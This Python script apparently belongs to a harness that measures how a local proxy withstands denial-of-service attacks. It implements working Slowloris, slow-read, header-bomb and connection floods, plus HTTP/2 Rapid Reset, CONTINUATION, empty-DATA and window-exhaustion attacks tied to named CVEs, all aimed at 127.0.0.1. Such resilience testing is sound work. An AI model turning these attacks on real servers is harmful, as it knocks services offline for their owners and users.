#!/usr/bin/env python3
"""One attack on a port of this machine, at a bounded rate: `attacks.py NAME PORT SECONDS [CONNECTION_LIMIT]`.

Prints what it did and how it was answered, as JSON. Used by hostile.py; not for measuring anything that is not on this machine.
"""
import errno
import json
import socket
import struct
import sys
import time

import proxies

HEAD = f"GET {proxies.MEASURED_PATH} HTTP/1.1\r\nHost: shop.example\r\n"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
TICK = 0.02


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def block(method, path, is_tls=False):
    """A request's head in HPACK, nothing compressed."""
    text = lambda name, value: bytes([name, len(value)]) + value.encode()
    return {"GET": b"\x82", "POST": b"\x83"}[method] + (b"\x87" if is_tls else b"\x86") + text(4, path) + text(1, "shop.example")


def greeting(*settings):
    return PREFACE + frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", *one) for one in settings))


class Plain:
    """Connections that say something at first, and something again and again."""
    conns, opens_per_second, every, reads, receive = 100, 200, 1.0, True, None

    def first(self):
        return b""

    def again(self, turn):
        return b""


class Nothing(Plain):
    """No connection: what the attacker's own process costs the load beside it."""
    conns = 0


class SlowHeads(Plain):
    """Slowloris: a byte of a head every second."""
    conns = 2000

    def first(self):
        return HEAD.encode() + b"x-slow: "

    def again(self, turn):
        return b"x"


class SlowBodies(Plain):
    """A body of 1 MB, a byte of it every second."""
    conns = 1000

    def first(self):
        return HEAD.replace("GET", "POST").encode() + b"Content-Length: 1000000\r\n\r\n"

    def again(self, turn):
        return b"x"


class SlowReaders(Plain):
    """Three answers of 1 MiB are asked for, and nothing is read."""
    conns, opens_per_second, reads, receive = 200, 10, False, 4096

    def first(self):
        return (f"GET {proxies.sized_path(1024)} HTTP/1.1\r\nHost: shop.example\r\n\r\n" * 3).encode()


class HeaderBombs(Plain):
    """Heads of 1 MB in 10,000 lines."""
    conns, opens_per_second = 20, 50

    def first(self):
        return HEAD.encode() + b"".join(b"x-%d: %s\r\n" % (i, b"y" * 90) for i in range(10000))


class Connections(Plain):
    """As many connections as the listener takes, and then 500 more a second."""
    opens_per_second, every = 500, 5.0

    def __init__(self, limit):
        self.conns = limit + 200

    def first(self):
        return HEAD.encode()[:1]


class Http2(Plain):
    conns, opens_per_second, every = 10, 100, 0.1

    def first(self):
        return greeting()


class RapidReset(Http2):
    """CVE-2023-44487: a stream is opened and reset at once, a hundred every 100 ms and connection."""
    head = block("GET", proxies.MEASURED_PATH)

    def again(self, turn):
        streams = range(turn * 200 + 1, turn * 200 + 201, 2)
        return b"".join(frame(HEADERS, 5, s, self.head) + frame(RESET, 0, s, b"\0\0\0\x08") for s in streams)


class Continuations(Http2):
    """CVE-2024-27316: a head that never ends, a hundred frames of it every 100 ms and connection."""

    def first(self):
        return greeting() + frame(HEADERS, 1, 1, block("GET", "/"))

    def again(self, turn):
        return frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 20) * 100


class Pings(Http2):
    """A thousand PINGs a second and connection."""

    def again(self, turn):
        return frame(PING, 0, 0, b"12345678") * 100


class SettingsFlood(Http2):
    """A thousand SETTINGS a second and connection."""

    def again(self, turn):
        return frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 100


class EmptyData(Http2):
    """CVE-2019-9518: a body of a thousand empty frames a second and connection."""

    def first(self):
        return greeting() + frame(HEADERS, 4, 1, block("POST", "/"))

    def again(self, turn):
        return frame(DATA, 0, 1) * 100


class Windows(Http2):
    """CVE-2019-9517: up to 100 answers of 64 KiB a connection, and no window to send them in but a byte a second. One is asked for at a time:
    bursts of them would keep the good client waiting for the upstream, whatever becomes of their answers."""
    conns, opens_per_second, every = 50, 5, TICK
    asked = block("GET", proxies.sized_path(64))

    def first(self):
        return greeting((4, 0))

    def again(self, turn):
        fresh = frame(HEADERS, 5, turn * 2 + 1, self.asked) if turn < 100 else b""
        turned = range(turn % 50 * 2 + 1, min(turn, 100) * 2, 100)
        return fresh + b"".join(frame(WINDOW, 0, s, struct.pack(">I", 1)) for s in turned)


ATTACKS = {
    "nothing": Nothing, "slow heads": SlowHeads, "slow bodies": SlowBodies, "slow readers": SlowReaders, "header bombs": HeaderBombs, "connections": Connections,
    "rapid reset": RapidReset, "continuations": Continuations, "pings": Pings, "settings": SettingsFlood, "empty data": EmptyData, "windows": Windows,
}


class Attacker:
    def __init__(self, attack, port):
        self.attack, self.port = attack, port
        self.live = {}
        self.opened = self.sent = self.closed = self.refused = 0
        self.answers = {}

    def run(self, seconds):
        began = time.monotonic()
        while (now := time.monotonic()) < began + seconds:
            budget = int((now - began) * self.attack.opens_per_second) - self.opened - self.refused
            for _ in range(max(0, min(budget, self.attack.conns - len(self.live)))):
                self.open(now)
            for conn in list(self.live.values()):
                self.go_on(conn, now)
            time.sleep(max(0.0, TICK - (time.monotonic() - now)))

    def open(self, now):
        sock = socket.socket()
        if self.attack.receive:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, self.attack.receive)
        sock.setblocking(False)
        code = sock.connect_ex(("127.0.0.1", self.port))
        if code not in (0, errno.EINPROGRESS):
            self.refused += 1
            return
        self.opened += 1
        self.live[sock.fileno()] = {"sock": sock, "left": self.attack.first(), "turn": 0, "next": now + self.attack.every, "seen": b""}

    def go_on(self, conn, now):
        if not conn["left"] and now >= conn["next"]:
            conn["left"] = self.attack.again(conn["turn"])
            conn["turn"] += 1
            conn["next"] = now + self.attack.every
        try:
            if conn["left"]:
                count = conn["sock"].send(conn["left"])
                self.sent += count
                conn["left"] = conn["left"][count:]
        except BlockingIOError:
            pass
        except OSError:
            # What was answered before may still be there to be read.
            return self.end(conn)
        if self.attack.reads:
            try:
                got = conn["sock"].recv(65536)
                conn["seen"] = (conn["seen"] + got)[-4096:]
                if not got:
                    self.end(conn)
            except BlockingIOError:
                pass
            except OSError:
                self.end(conn)

    def end(self, conn):
        try:
            conn["seen"] += conn["sock"].recv(65536)
        except OSError:
            pass
        answer = read(conn["seen"])
        self.answers[answer] = self.answers.get(answer, 0) + 1
        self.closed += 1
        del self.live[conn["sock"].fileno()]
        conn["sock"].close()


def read(seen):
    """How a connection was answered before it was closed: the last status, or the error of a GOAWAY."""
    if b"HTTP/1.1 " in seen:
        return seen.rsplit(b"HTTP/1.1 ", 1)[1][:3].decode(errors="replace")
    at = seen.rfind(bytes([GOAWAY, 0, 0, 0, 0, 0]))
    if at >= 0 and len(seen) >= at + 14:
        return f"GOAWAY {struct.unpack('>I', seen[at + 10:at + 14])[0]}"
    return "closed"


def main():
    name, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    kind = ATTACKS[name]
    attack = kind(int(sys.argv[4])) if kind is Connections else kind()
    attacker = Attacker(attack, port)
    print("ready", flush=True)
    sys.stdin.readline()
    attacker.run(seconds)
    print(json.dumps({"opened": attacker.opened, "open": len(attacker.live), "bytes": attacker.sent, "closed": attacker.closed,
                      "answers": attacker.answers}))


if __name__ == "__main__":
    main()
